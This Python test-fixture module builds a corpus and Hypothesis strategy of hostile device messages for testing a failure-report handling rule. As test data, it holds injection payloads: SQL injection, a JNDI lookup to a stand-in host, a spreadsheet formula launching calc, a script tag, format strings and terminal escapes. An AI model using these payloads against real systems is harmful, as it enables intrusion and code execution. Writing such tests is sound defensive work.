"""Messages that mean harm: a corpus that is kept, and a strategy that makes more of the kind.

Each is an otherwise good message of a device of its own, with some fields replaced. ``CANARY``
stands in every place that must go nowhere: not into a log, a table, a queue or an execution.
``WORDS`` are a device's own, which may go further as a part of one printable line.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

CANARY = "canary7f3a"
WORDS = "words51c0"
REFUSED = "[refused]"
"""The rule passes this on in place of a device id that no thing can have."""

COUNTED = "counted"
UNKNOWN = "ThingNotFoundError"
NO_DEVICE = "deviceId is not valid"

_LENGTHS = {"timestamp": 1000, "model": 1000, "FW": 1000, "jobId": 1000}
"""How much the rule passes on of a field."""


def line_of(value: Any, length: int) -> str:
    """Return the line that the rule makes of a value."""
    text = (
        value
        if isinstance(value, str)
        else json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    )
    return re.sub("[^ -~]", " ", text)[:length]


@dataclass(frozen=True)
class Hostile:
    """One hostile message.

    Attributes:
        name: what is wrong with it.
        fields: replaces and adds fields of a good message; ``...`` leaves a field out.
        outcome: ``COUNTED``, or how the error line of the function begins.
        is_refused: whether the rule does not pass on the device id.
    """

    name: str
    fields: dict[str, Any]
    outcome: str = COUNTED
    is_refused: bool = False

    def message(self, device: str) -> dict[str, Any]:
        """The message, as sent by a device."""
        good = {
            "_id_": device,
            "timestamp": "1711320208793",
            "status": "failed",
            "model": "wo:v8",
            "FW": "2.27",
        }
        return {name: value for name, value in (good | self.fields).items() if value is not ...}

    def line(self, device: str) -> dict[str, Any]:
        """What the failure log says of the payload."""
        sent = self.message(device)
        name = {"deviceId": REFUSED if self.is_refused else sent.get("_id_")}
        lines = {
            field: line_of(sent[field], length) or None
            for field, length in _LENGTHS.items()
            if sent.get(field) is not None
        }
        given = {"kind": "failed", "reportedBy": "device", "status": sent["status"]}
        return given | {field: said for field, said in (name | lines).items() if said is not None}


def _odd_values(words: str, length: int) -> dict[str, Any]:
    """Return values that no careful device writes, by their fault."""
    return {
        "far too long": words * 10_000,
        "one too long": words.ljust(length + 1, "x"),
        "a newline at its end": f"{words}\n",
        "a line of its own": f'x\n{{"level": "ERROR", "message": "{words}"}}',
        "a carriage return": f"x\r{words}",
        "a NUL": f"x\0{words}",
        "colours of a terminal": f"\x1b[31m{words}\x1b[0m",
        "a title of a terminal": f"\x1b]0;{words}\x07",
        "an eight bit control character": f"\x9b31m{words}",
        "a line separator": f"x\u2028{words}",
        "written from right to left": f"\u202e{words}",
        "of no width": f"\u200b{words}\ufeff",
        "half a character": f"\ud800{words}",
        "look-alike letters": f"\u0441{words}",
        "look-alike digits": f"{words}\u0661",
        "beyond the first plane": f"{words}\U0001f4a5",
        "a list": [words],
        "a list of nothing": [],
        "an object": {words: words},
        "an object of nothing": {},
        "a deep list": _deep(50, words),
        "the mark of a refused value": REFUSED,
    }


def _bad_names() -> list[Hostile]:
    """Messages with a device id that the rule refuses."""
    values = {
        **_odd_values(CANARY, 128),
        "a path": f"../{CANARY}",
        "with a space": f" {CANARY}",
        "a topic filter": f"+/{CANARY}/#",
        "a substitution template": f"${{{CANARY}}}",
        "SQL": f"' OR '{CANARY}' = '{CANARY}",
    }
    return [
        Hostile(f"_id_: {what}", {"_id_": value}, NO_DEVICE, is_refused=True)
        for what, value in values.items()
    ]


def _odd_fields() -> list[Hostile]:
    """Messages with another field that is as bad: each failure counts."""
    return [
        Hostile(f"{field}: {what}", {field: value})
        for field, length in _LENGTHS.items()
        for what, value in _odd_values(WORDS, length).items()
    ]


def _deep(levels: int, words: str) -> Any:
    return [_deep(levels - 1, words)] if levels else words


CORPUS = [
    *_bad_names(),
    *_odd_fields(),
    # Who it is.
    Hostile("_id_: missing", {"_id_": ...}, "deviceId is missing"),
    Hostile("_id_: null", {"_id_": None}, "deviceId is missing"),
    Hostile("_id_: empty", {"_id_": ""}, NO_DEVICE),
    Hostile("_id_: true", {"_id_": True}, NO_DEVICE),
    Hostile("_id_: no thing", {"_id_": "nobody-at-all"}, UNKNOWN),
    Hostile("_id_: a number", {"_id_": 4711}, UNKNOWN),
    Hostile("_id_: of Python", {"_id_": "__class__"}, UNKNOWN),
    # Which failure it is.
    Hostile("timestamp: missing", {"timestamp": ...}),
    Hostile("timestamp: null", {"timestamp": None}),
    Hostile("timestamp: empty", {"timestamp": ""}),
    Hostile("timestamp: false", {"timestamp": False}),
    Hostile("timestamp: a number of 100 digits", {"timestamp": 10**100 - 1}),
    Hostile("timestamp: the year 5138", {"timestamp": 99999999999999}),
    Hostile("timestamp: before 1970", {"timestamp": -1}),
    Hostile("timestamp: a fraction", {"timestamp": 1711320208.793}),
    # What was installed.
    Hostile("FW: missing", {"FW": ...}),
    Hostile("FW: null", {"FW": None}),
    Hostile("FW: empty", {"FW": ""}),
    Hostile("FW: true", {"FW": True}),
    Hostile("FW: a number", {"FW": 2.27}),
    Hostile("FW: SQL", {"FW": "' OR status = 'x"}),
    Hostile("FW: JSON path", {"FW": "$.count.recovery"}),
    Hostile("FW: a substitution template", {"FW": "${encode(*, 'base64')}"}),
    Hostile("FW: a formula", {"FW": "=cmd|' /C calc'!A0"}),
    Hostile("FW: a lookup", {"FW": "${jndi:ldap://x.example/a}"}),
    Hostile("FW: a script", {"FW": "<script>alert(1)</script>"}),
    Hostile("FW: %", {"FW": "%s%n%1000000d"}),
    Hostile("jobId: in place of a bad FW", {"jobId": "job-7", "FW": f"\n{WORDS}"}),
    # What nobody asked for.
    Hostile("a key of 64 KB", {CANARY * 6_500: 1}),
    Hostile("a value of 64 KB", {"x": CANARY * 6_500}),
    Hostile("five thousand keys", {f"{CANARY}{n}": n for n in range(5_000)}),
    Hostile("a key of control characters", {f"\n\x1b[2J{CANARY}": CANARY}),
    Hostile("the names that the rule gives", {
        "deviceId": CANARY, "topic": CANARY, "clientId": CANARY, "receivedAt": CANARY,
        "count": {"outcome": CANARY}, "failure": CANARY, "refused": CANARY,
    }),
    Hostile("names of Python", {"__class__": CANARY, "__proto__": {"x": CANARY}}),
]  # fmt: skip
"""Every nasty message that was thought of so far."""

NO_MESSAGES = {
    "an object that ends early": b'{"_id_": "%(canary)s", "status": "failed"',
    "an object and more": b'{"_id_": "%(canary)s", "status": "failed"} %(canary)s',
    "two objects": b'{"x": "%(canary)s"}\n{"_id_": "%(canary)s", "status": "failed"}',
    "a byte order mark": b'\xef\xbb\xbf{"_id_": "%(canary)s", "status": "failed"}',
    "no UTF-8": b'{"_id_": "%(canary)s\xff", "status": "failed"}',
    "UTF-16": '{"_id_": "%(canary)s", "status": "failed"}'.encode("utf-16"),
    "colours": b"\x1b[31m%(canary)s\x1b[0m",
    "lines": b'\n{"level": "ERROR"}\n%(canary)s\n',
    "a number without end": b'{"status": "failed", "timestamp": ' + b"9" * 5_000 + b"}",
    "lists without end": b'{"status": "failed", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    "a status in a list": b'{"_id_": "%(canary)s", "status": ["failed"]}',
    "a longer word with a newline": b'{"_id_": "%(canary)s", "status": "failed%(canary)s\\n"}',
}
"""Payloads that are no message of a failure, by what they are."""


def no_messages() -> dict[str, bytes]:
    """``NO_MESSAGES`` with the canary in its places."""
    return {
        name: payload.replace(b"%(canary)s", CANARY.encode())
        for name, payload in NO_MESSAGES.items()
    }


# More of the kind

ANYTHING: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=8,
)
"""Whatever JSON can say, and the numbers that only Python's reader of JSON takes."""

_PRINTABLE = [chr(code) for code in range(32, 127)]
_PLAIN = st.text(_PRINTABLE)
_WRITTEN: st.SearchStrategy[Any] = st.text() | st.recursive(
    st.none() | st.booleans() | st.integers() | _PLAIN,
    lambda inner: st.lists(inner) | st.dictionaries(_PLAIN, inner),
    max_leaves=8,
)
"""Values of which all engines make the same text: without fractions, and escapes in objects."""
_CANARIES: st.SearchStrategy[Any] = st.recursive(
    st.just(CANARY),
    lambda inner: st.lists(inner, min_size=1) | st.dictionaries(st.text(), inner, min_size=1),
    max_leaves=4,
).filter(lambda value: not isinstance(value, str))
_UNPRINTABLE = st.characters(exclude_characters="".join(_PRINTABLE))


_BAD_NAMES = st.one_of(
    st.tuples(st.text(max_size=80), _UNPRINTABLE, st.text(max_size=80)).map(CANARY.join),
    st.text(_PRINTABLE, min_size=128).map(CANARY.__add__),
    _CANARIES,
)


@st.composite
def hostile_messages(draw: st.DrawFn) -> Hostile:
    """A message with any values, a device id that is good or bad, and extra fields."""
    fields = draw(st.dictionaries(st.text().map(CANARY.__add__), _CANARIES, max_size=3))
    for field in _LENGTHS:
        fields[field] = draw(_WRITTEN | st.just(...))
    if not draw(st.booleans()):
        return Hostile("generated", fields)
    return Hostile("generated", {**fields, "_id_": draw(_BAD_NAMES)}, NO_DEVICE, is_refused=True)


def generate_messages(number: int) -> list[Hostile]:
    """Return so many hostile messages, the same ones each time."""
    made: list[Hostile] = []

    @settings(
        max_examples=number,
        derandomize=True,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(hostile_messages())
    def collect(message: Hostile) -> None:
        made.append(message)

    collect()
    return made
